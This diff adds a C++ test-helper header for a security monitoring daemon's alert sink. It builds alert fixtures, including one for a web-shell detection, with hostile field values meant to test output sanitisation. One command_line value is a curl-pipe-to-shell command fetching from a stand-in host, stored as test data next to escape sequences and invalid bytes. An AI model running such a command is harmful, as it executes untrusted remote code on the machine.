@@ -1,0 +1,106 @@
+// An alert with everything in it, much of it hostile, and a directory that is gone after the test.
+#pragma once
+
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+#include <string>
+
+#include "daemoneye/alert.pb.h"
+
+namespace de::sink {
+
+class TempDir {
+ public:
+  TempDir() {
+    std::string name = "/tmp/de-sink-XXXXXX";
+    path_ = ::mkdtemp(name.data());
+  }
+  ~TempDir() { std::filesystem::remove_all(path_); }
+  TempDir(const TempDir&) = delete;
+  TempDir& operator=(const TempDir&) = delete;
+
+  std::string operator/(const std::string& file) const { return path_ + "/" + file; }
+  const std::string& path() const { return path_; }
+
+ private:
+  std::string path_;
+};
+
+inline std::string read_text(const std::string& path) {
+  std::ifstream file(path, std::ios::binary);
+  return {std::istreambuf_iterator<char>(file), {}};
+}
+
+inline pb::AlertField& add_field(pb::Alert& alert, const std::string& column) {
+  pb::AlertField& field = *alert.add_data();
+  field.set_column(column);
+  return field;
+}
+
+inline pb::Alert small_alert(std::uint64_t sequence, pb::Severity severity = pb::SEVERITY_HIGH) {
+  pb::Alert alert;
+  alert.set_id("id-" + std::to_string(sequence));
+  alert.set_sequence(sequence);
+  alert.set_severity(severity);
+  alert.set_title("alert " + std::to_string(sequence));
+  alert.mutable_completeness()->set_complete(true);
+  return alert;
+}
+
+inline void add_hostile_data(pb::Alert& alert) {
+  add_field(alert, "pid").mutable_value()->set_integer(4242);
+  add_field(alert, "name").mutable_value()->set_text("sh\x1b[31m");
+  add_field(alert, "command_line").mutable_value()->set_text("sh -c \"curl http://x/ | sh\"\nsecond,line\r\x7f");
+  add_field(alert, "cwd").mutable_value()->set_text("/tmp/\xff\xc2\x9b\xc3\xa9");  // Invalid byte, C1 control, e acute.
+  add_field(alert, "cpu_usage").mutable_value()->set_real(12.5);
+  add_field(alert, "executable_hash").mutable_value();
+  add_field(alert, "raw").mutable_value()->set_blob(std::string("\x00\xfe", 2));
+  add_field(alert, "pid").mutable_value()->set_integer(-1);
+}
+
+inline pb::Alert full_alert() {
+  pb::Alert alert;
+  alert.set_id("3f2b8c1e-0d4a-4c7e-9a51-6f0e2d7c8b90");
+  alert.set_sequence(17);
+  alert.set_alert_time_ms(1'767'323'045'678);
+  alert.set_rule_id("web-shell");
+  alert.set_rule_generation(3);
+  alert.set_rule_author("Ann Author");
+  alert.set_rule_license("DRL-1.1");
+  alert.set_rule_execution_time_us(1'234);
+  alert.set_title("Shell from web server: sh\\x1b[31m (pid 4242)");
+  alert.set_description("=A web server started a shell.\nLook at its \"parent\".");
+  alert.set_severity(pb::SEVERITY_CRITICAL);
+  alert.set_category("execution");
+  alert.add_tags("attack.t1059");
+  alert.add_tags("+web");
+  alert.set_host("box-1");
+  alert.set_scan_id(9);
+  alert.set_process_uid("6f9619ff-8b86-5011-b42d-00cf4fc964ff");
+  alert.set_process_count(1);
+  alert.add_affected_processes(4242);
+  alert.set_count(3);
+  alert.set_first_seen_ms(1'767'323'045'000);
+  alert.set_last_seen_ms(1'767'323'049'000);
+  alert.set_dedupe_key("web-shell|sh%1b[31m|%2fbin%2fsh|33");
+  alert.set_correlation_id("0c1d2e3f-0000-4000-8000-000000000001");
+  pb::Ancestor& nginx = *alert.add_ancestry();
+  nginx.set_pid(100);
+  nginx.set_name("nginx");
+  nginx.set_executable_path("/usr/sbin/nginx");
+  pb::Ancestor& init = *alert.add_ancestry();
+  init.set_pid(1);
+  init.set_name("init\n");
+  add_hostile_data(alert);
+  alert.mutable_completeness()->set_complete(false);
+  pb::Reason& shed = *alert.mutable_completeness()->add_reasons();
+  shed.set_reason("EventsShed");
+  shed.set_collector("procmond");
+  shed.set_detail("12 events");
+  alert.mutable_completeness()->add_reasons()->set_reason("ResultCapped");
+  return alert;
+}
+
+}  // namespace de::sink
